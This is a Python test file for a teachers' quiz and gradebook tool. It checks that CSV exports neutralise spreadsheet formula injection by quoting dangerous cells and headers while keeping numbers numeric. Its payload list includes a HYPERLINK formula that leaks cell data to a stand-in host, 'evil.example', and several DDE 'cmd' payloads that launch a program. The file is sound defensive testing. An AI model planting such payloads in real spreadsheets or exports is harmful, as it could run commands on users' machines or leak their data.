"""CSV files for teachers: no cell can run as a formula in a spreadsheet; numbers stay numbers."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest

from helpers.exercises.grading import main as grade
from helpers.exercises.quiz import load_quiz
from helpers.files import neutralise_formula, write_csv_atomic
from tests.exercise_samples import plain_bank, write_bank, write_data_package

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your grade")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    '"=1+1"',
    "'=1+1",
    "\n@SUM(A1)",
    "\uff1d1+1",  # full-width equals sign
    "=1+1,\"two\"\nthird line",  # a field pandas quotes (comma, quote, line break)
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_a_leading_quote(payload):
    assert neutralise_formula(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Moscow", "a) Tashkent", "", "2,500 people", "-5", "+3",
                                  "12.5", "me@example.org", "a=b"])
def test_plain_text_and_numbers_written_as_text_are_left_alone(text):
    assert neutralise_formula(text) == text


def read_back(path: Path) -> list[list[str]]:
    """The cells exactly as a spreadsheet's CSV import reads them."""
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


def test_csv_cells_and_headers_are_neutralised_and_numbers_stay_numbers(tmp_path):
    frame = pd.DataFrame({
        "answer": PAYLOADS,
        "score": [-1.5] * len(PAYLOADS),
        "attempts": list(range(len(PAYLOADS))),
        "correct": [True, False, None] * 4 + [True],
        "=header": pd.Series(["=x"] * len(PAYLOADS), dtype="string"),
    })
    path = write_csv_atomic(tmp_path / "out.csv", frame)
    rows = read_back(path)
    assert rows[0] == ["answer", "score", "attempts", "correct", "'=header"]
    for row, payload in zip(rows[1:], PAYLOADS, strict=True):
        assert row[0] == "'" + payload, "each payload arrives whole, as text"
        assert row[1] == "-1.5", "a negative score is a number, not text"
        assert row[4] == "'=x"
    assert [row[3] for row in rows[1:4]] == ["True", "False", ""]
    assert pd.read_csv(path)["score"].dtype == float
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"], "no temporary file left"


def test_gradebook_files_neutralise_a_students_formula(tmp_path, capsys):
    plain = plain_bank()
    for question in plain["questions"]:
        if question["id"] == "before_2022":  # a text answer, which a student types freely
            question["answer_type"] = "text"
            question["solution"] = {"table": "crises", "column": "crisis_id",
                                    "aggregate": "joined"}
    banks = write_bank(tmp_path / "banks", plain).parent
    data = write_data_package(tmp_path / "data")
    folder = tmp_path / "collected"
    payload = "=cmd|' /C calc'!A0"
    for student, answers in (("alice", {"thoughts": payload, "before_2022": payload}),
                             ("bob", {"thoughts": "@SUM(1+1)", "before_2022": "-2+3"})):
        quiz = load_quiz("sample", answers=answers, answers_dir=folder, student_id=student,
                         banks_dir=banks, data_dir=data)
        assert not quiz.problems
    assert grade([str(folder), "--out", str(tmp_path / "g"), "--banks-dir", str(banks),
                  "--data-dir", str(data)]) == 0
    every_cell = [cell for name in ("gradebook.csv", "gradebook_items.csv", "item_analysis.csv")
                  for row in read_back(tmp_path / "g" / name) for cell in row]
    assert "'" + payload in every_cell and "'@SUM(1+1)" in every_cell
    assert "'-2+3" in every_cell
    assert not [cell for cell in every_cell if cell[:1] and cell[:1] in "=+@\t\r"]
    sheet = json.loads((folder / "sample__alice.json").read_text(encoding="utf-8"))
    assert sheet["answers"]["thoughts"]["answer"] == payload, "the sheet keeps the answer as given"
